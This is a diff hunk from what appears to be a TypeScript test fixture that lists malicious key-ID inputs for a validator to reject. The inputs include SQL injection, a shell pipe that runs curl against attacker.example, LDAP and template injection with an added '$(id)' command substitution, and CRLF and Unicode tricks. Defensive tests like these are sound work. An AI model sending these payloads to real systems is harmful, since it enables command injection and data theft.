@@ -22,7 +22,7 @@ const unknown: readonly (readonly [string, string])[] = [
   ['of SQL', "k3' UNION SELECT 'secret' -- "],
   ['of a shell', 'k1|curl https://attacker.example'],
   ['of LDAP', '*)(kid=*'],
-  ['of a template', '{{7*7}}${7*7}'],
+  ['of a template', '{{7*7}}$(id)'],
   ['of line feeds', 'k1\r\nx-injected: 1\n{"effect":"allow"}'],
   ['of a direction mark', '\u202ek1'],
   ['of a lone surrogate', '\ud800'],
